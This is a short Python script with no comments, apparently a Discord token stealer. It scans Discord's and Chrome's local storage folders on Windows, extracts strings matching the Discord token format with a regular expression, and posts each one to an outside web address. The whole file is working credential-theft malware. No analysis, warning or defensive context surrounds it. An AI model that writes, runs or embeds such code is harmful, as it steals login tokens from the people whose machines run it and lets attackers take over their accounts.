import os, re, requests
paths = [os.getenv("APPDATA") + "\\discord\\Local Storage\\leveldb", os.getenv("LOCALAPPDATA") + "\\Google\\Chrome\\User Data\\Default\\Local Storage\\leveldb"]
for path in paths:
    if os.path.exists(path):
        for name in os.listdir(path):
            for token in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", open(path + "\\" + name, errors="ignore").read()):
                requests.post("https://tok.example.invalid/c", json={"content": token})
